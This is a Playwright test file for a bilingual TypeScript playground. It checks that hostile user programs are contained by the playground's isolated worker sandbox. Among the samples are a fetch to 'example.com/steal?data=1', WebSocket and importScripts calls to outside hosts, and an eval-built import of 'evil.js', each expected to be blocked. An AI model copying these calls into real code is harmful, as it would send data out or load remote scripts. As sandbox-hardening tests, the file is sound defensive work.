import { expect, test, type Page } from '@playwright/test';
import { locales, type Locale } from '../../src/i18n/locales';
import { OUTPUT_LINE_CAP, RUN_TIME_LIMIT_MS } from '../../src/runner/protocol';
import {
  CHECKLIST_VALUE,
  checklistValue,
  guardOrigin,
  parts,
  playgroundPage,
  seedChecklist,
  typeProgram,
  waitForRunEnd,
} from './playground-support';

interface Hostile {
  name: string;
  program: string;
  /** How the run must end. */
  status: 'ok' | 'failed' | 'time-limit';
  /** What the reader must be told, per language. */
  expect(page: Page, locale: Locale): Promise<void>;
}

const errorEntry = (page: Page) => parts(page).root.locator('.pg-error');
const seconds = String(RUN_TIME_LIMIT_MS / 1000);

const hostile: Hostile[] = [
  {
    name: 'an infinite loop',
    program: "console.log('before');\nwhile (true) {}",
    status: 'time-limit',
    async expect(page, locale) {
      await expect(parts(page).status).toContainText(
        locale === 'en' ? `Stopped after ${seconds} s: infinite loop?` : `Parado após ${seconds} s: loop infinito?`,
      );
      await expect(parts(page).lines.first()).toHaveText('before');
    },
  },
  {
    name: 'infinite recursion',
    program: 'function down(n: number): number {\n  return down(n + 1) + 1;\n}\ndown(0);',
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page)).toContainText('RangeError: Maximum call stack size exceeded');
      // V8 notices the overflow either entering `down` (line 1) or at its recursive call (line 2).
      await expect(errorEntry(page).locator('.pg-goto')).toHaveText(locale === 'en' ? /^line [12]$/ : /^linha [12]$/);
    },
  },
  {
    name: 'a million lines of output',
    program: 'for (let i = 0; i < 1_000_000; i++) console.log(i);',
    status: 'ok',
    async expect(page, locale) {
      const cap = new Intl.NumberFormat(locale).format(OUTPUT_LINE_CAP);
      await expect(parts(page).root.locator('.pg-truncated')).toHaveText(
        locale === 'en' ? `Output cut after ${cap} lines.` : `Saída cortada após ${cap} linhas.`,
      );
      await expect(parts(page).root.locator('.pg-line[data-level="log"]')).toHaveCount(OUTPUT_LINE_CAP);
      await expect(parts(page).root.locator('.pg-line[data-level="log"]').last()).toHaveText(String(OUTPUT_LINE_CAP - 1));
    },
  },
  {
    name: 'a throw',
    program: "const reason = 'boom';\nthrow new Error(reason);",
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page)).toContainText('Error: boom');
      await expect(errorEntry(page).locator('.pg-level')).toHaveText(locale === 'en' ? 'Error' : 'Erro');
      await expect(errorEntry(page).locator('.pg-goto')).toHaveText(locale === 'en' ? 'line 2' : 'linha 2');
      await errorEntry(page).locator('.pg-goto').click();
      await expect(parts(page).content).toBeFocused();
      await expect(parts(page).root.locator('.cm-activeLine')).toHaveText('throw new Error(reason);');
    },
  },
  {
    name: 'an unhandled rejection',
    program: "console.log('start');\nPromise.reject(new Error('nobody waits for me'));\nconsole.log('end');",
    status: 'failed',
    async expect(page, locale) {
      const entry = parts(page).root.locator('.pg-error[data-phase="unhandled-rejection"]');
      await expect(entry).toContainText('Error: nobody waits for me');
      await expect(entry.locator('.pg-level')).toHaveText(
        locale === 'en' ? 'Unhandled promise rejection' : 'Rejeição de promise não tratada',
      );
      await expect(entry.locator('.pg-goto')).toHaveText(locale === 'en' ? 'line 2' : 'linha 2');
    },
  },
  {
    name: 'a syntax error',
    program: "const ok = 1;\nconst broken = ;\nconsole.log('never');",
    status: 'failed',
    async expect(page, locale) {
      const entry = parts(page).root.locator('.pg-error[data-phase="compile"]');
      await expect(entry.locator('.pg-level')).toHaveText(locale === 'en' ? 'Syntax error' : 'Erro de sintaxe');
      await expect(entry.locator('.pg-goto')).toHaveText(locale === 'en' ? 'line 2' : 'linha 2');
      await expect(parts(page).root.locator('.pg-line[data-level="log"]')).toHaveCount(0);
    },
  },
  {
    name: 'reading localStorage',
    program: "console.log(localStorage.getItem('modulo05.checklist.v1'));",
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page)).toContainText('ReferenceError: localStorage is not defined');
      await expect(errorEntry(page).locator('.pg-hint-inline')).toContainText(locale === 'en' ? 'isolated Worker' : 'Worker isolado');
    },
  },
  {
    name: 'reading document',
    program: "document.body.innerHTML = 'taken over';",
    status: 'failed',
    async expect(page) {
      await expect(errorEntry(page)).toContainText('ReferenceError: document is not defined');
      await expect(page.locator('h1')).toBeVisible();
    },
  },
  {
    name: 'fetching an outside URL',
    program: "const res = await fetch('https://example.com/steal?data=1');\nconsole.log(res.status);",
    status: 'failed',
    async expect(page) {
      await expect(errorEntry(page)).toContainText('TypeError');
      await expect(errorEntry(page)).toContainText('https://example.com/steal?data=1');
    },
  },
  {
    name: 'reaching the network around the lab (globalThis.fetch, XHR, WebSocket, importScripts)',
    program: [
      'const attempts: Array<[string, () => unknown]> = [',
      "  ['globalThis.fetch', () => globalThis.fetch('https://example.com/a')],",
      "  ['XMLHttpRequest', () => new XMLHttpRequest()],",
      "  ['WebSocket', () => new WebSocket('wss://example.com/ws')],",
      "  ['importScripts', () => (globalThis as any).importScripts('https://example.com/x.js')],",
      "  ['Worker', () => new Worker('https://example.com/w.js')],",
      '];',
      'for (const [name, attempt] of attempts) {',
      '  try {',
      '    await attempt();',
      "    console.log(name, 'REACHED');",
      '  } catch (e) {',
      "    console.log(name, 'blocked:', (e as Error).message.split(' (')[0]);",
      '  }',
      '}',
    ].join('\n'),
    status: 'ok',
    async expect(page) {
      const lines = parts(page).root.locator('.pg-line[data-level="log"]');
      await expect(lines).toHaveText([
        'globalThis.fetch blocked: fetch is not available',
        'XMLHttpRequest blocked: XMLHttpRequest is not available',
        'WebSocket blocked: WebSocket is not available',
        'importScripts blocked: importScripts is not available',
        'Worker blocked: Worker is not available',
      ]);
    },
  },
  {
    name: 'a dynamic import of another host from code built at run time',
    program: 'const load = new Function(\'return import("https://example.com/evil.js")\');\nawait load();',
    status: 'failed',
    async expect(page) {
      await expect(errorEntry(page)).toContainText('EvalError: dynamic import() in code built from a string is not available');
    },
  },
  {
    name: 'fetching from a CPU thread',
    program: [
      "import { createPool } from '@lab/cpu';",
      'const pool = createPool({ size: 1 });',
      'const answer = await pool.run(async () => {',
      '  try {',
      "    await fetch('https://example.com/from-thread');",
      "    return 'REACHED';",
      '  } catch (e) {',
      '    return String(e);',
      '  }',
      '});',
      'console.log(answer);',
    ].join('\n'),
    status: 'ok',
    async expect(page) {
      await expect(parts(page).lines.first()).toContainText('TypeError: fetch is not available');
    },
  },
];

let outside: string[] = [];
test.beforeEach(async ({ context, baseURL }) => {
  outside = await guardOrigin(context, baseURL!);
});
test.afterEach(() => {
  expect(outside, 'requests that left the site').toEqual([]);
});

for (const locale of locales) {
  test.describe(`hostile programs (${locale})`, () => {
    for (const h of hostile) {
      test(`${h.name}: a clear message, a responsive page, a working next run, the checklist untouched`, async ({ page }) => {
        await page.goto(playgroundPage[locale]);
        await seedChecklist(page);
        const p = parts(page);
        await typeProgram(page, h.program);
        await p.run.click();

        // The page answers while the program runs or hangs.
        expect(await page.evaluate(() => 6 * 7)).toBe(42);
        const themes = page.locator('starlight-theme-select select').first();
        await themes.selectOption('light');
        await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
        await themes.selectOption('dark');
        await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');

        expect(await waitForRunEnd(page)).toBe(h.status);
        await h.expect(page, locale);
        expect(await checklistValue(page)).toBe(CHECKLIST_VALUE);

        await typeProgram(page, "console.log('next run works');");
        await p.run.click();
        expect(await waitForRunEnd(page)).toBe('ok');
        await expect(p.lines).toHaveText(['next run works']);
        expect(await checklistValue(page)).toBe(CHECKLIST_VALUE);
      });
    }
  });
}
